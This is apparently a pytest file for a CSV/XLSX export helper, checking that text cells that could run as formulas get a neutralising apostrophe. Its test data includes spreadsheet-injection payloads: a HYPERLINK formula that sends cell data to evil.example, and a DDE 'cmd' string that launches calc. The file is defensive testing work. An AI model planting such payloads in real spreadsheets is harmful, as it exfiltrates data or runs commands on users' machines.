"""Formula-safe CSV/XLSX export: text cells that could run as formulas get an apostrophe."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from recon_helpers.core.errors import UsageError
from recon_helpers.core.exports import neutralise_formulas, write_table

RISKY = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tx",
    "\r=1+1",
    "\nline",
]


def _frame() -> pd.DataFrame:
    n = len(RISKY)
    return pd.DataFrame(
        {
            "client_name": pd.Series(RISKY, dtype=object),
            "client_id": pd.Series(["1928374650192837465"] * n, dtype=object),
            "note": pd.Series(
                ["Contoso, Inc.", "-12.50", None, "ok", "'=x", "", "a=b"], dtype=object
            ),
            "quantity": range(1, n + 1),
            "ratio": [0.5, -1.25, 2.0, 3.5, -0.0, 10.125, 7.0],
            "impact": pd.Series(
                [Decimal("-431.25"), Decimal("0.038250"), Decimal("1E+2"), None, 5, "=1", "-7"],
                dtype=object,
            ),
        }
    )


def test_neutralise_formulas_touches_only_risky_text() -> None:
    frame = _frame()
    frame["text_str"] = pd.Series(RISKY, dtype="str")
    frame["vendor"] = pd.Series(["=cmd", "pax8"] * 3 + ["pax8"], dtype="category")
    safe = neutralise_formulas(frame)
    assert safe["vendor"].tolist()[:2] == ["'=cmd", "pax8"]
    assert safe["client_name"].tolist() == ["'" + v for v in RISKY]
    assert safe["text_str"].tolist() == ["'" + v for v in RISKY]
    assert safe["note"].tolist()[:5] == ["Contoso, Inc.", "-12.50", None, "ok", "'=x"]
    assert safe["impact"].tolist()[:5] == frame["impact"].tolist()[:5]  # numbers untouched
    assert safe["impact"].tolist()[5:] == ["'=1", "-7"]
    assert safe["quantity"].dtype == frame["quantity"].dtype
    assert safe["ratio"].equals(frame["ratio"])
    assert frame["client_name"].tolist() == RISKY  # the input is not modified
    assert neutralise_formulas(pd.DataFrame({"=cmd": [1]})).columns.tolist() == ["'=cmd"]


def test_csv_round_trip_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = write_table(_frame(), tmp_path / "adjustments.csv")
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert header == ["client_name", "client_id", "note", "quantity", "ratio", "impact"]
    assert [r[0] for r in body] == ["'" + v for v in RISKY]
    assert {r[1] for r in body} == {"1928374650192837465"}
    assert [r[3] for r in body] == [str(i) for i in range(1, 8)]
    assert [float(r[4]) for r in body] == _frame()["ratio"].tolist()
    assert [r[5] for r in body] == ["-431.25", "0.038250", "100", "", "5", "'=1", "-7"]
    assert body[1][2] == "-12.50"
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n"))
    assert [p.name for p in tmp_path.iterdir()] == ["adjustments.csv"]  # no temp file left


def test_xlsx_round_trip_text_cells_never_formulas(tmp_path: Path) -> None:
    frame = _frame()
    frame["invoice_date"] = pd.to_datetime(["2026-10-31"] * len(RISKY), format="%Y-%m-%d")
    frame.loc[0, "note"] = "bell\x07 inside"
    big = Decimal("12345678901234.567891")  # more digits than an Excel number holds
    frame["impact"] = frame["impact"].astype(object)
    frame.loc[3, "impact"] = big
    path = write_table(frame, tmp_path / "adjustments.xlsx", sheet_name="Adjustments")
    book = openpyxl.load_workbook(path)
    sheet = book["Adjustments"]
    rows = list(sheet.iter_rows(min_row=2))
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    names = [r[0] for r in rows]
    # XML reads a CR inside text back as LF; what matters is the apostrophe in front
    assert [c.value for c in names] == ["'" + v.replace("\r", "\n") for v in RISKY]
    assert all(c.data_type == "s" for c in names)
    assert {r[1].value for r in rows} == {"1928374650192837465"}
    assert [r[3].value for r in rows] == list(range(1, 8))
    assert [r[4].value for r in rows] == frame["ratio"].tolist()
    impacts = [r[5].value for r in rows]
    assert impacts[:3] == [-431.25, 0.03825, 100]
    assert impacts[3] == "12345678901234.567891"  # exact, as text
    assert impacts[4:] == [5, "'=1", "-7"]
    assert rows[0][2].value == "bell\ufffd inside"
    assert rows[1][2].value == "-12.50" and rows[2][2].value is None
    assert rows[0][6].value.date().isoformat() == "2026-10-31"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adjustments.xlsx"]


def test_write_table_replaces_atomically_and_refuses_other_extensions(tmp_path: Path) -> None:
    target = tmp_path / "out" / "findings.csv"
    write_table(pd.DataFrame({"a": ["old"]}), target)
    write_table(pd.DataFrame({"a": ["new"]}), target)
    assert target.read_bytes() == b"a\r\nnew\r\n"
    with pytest.raises(UsageError, match=r"must end in \.csv or \.xlsx"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "findings.txt")
    assert sorted(p.name for p in target.parent.iterdir()) == ["findings.csv"]
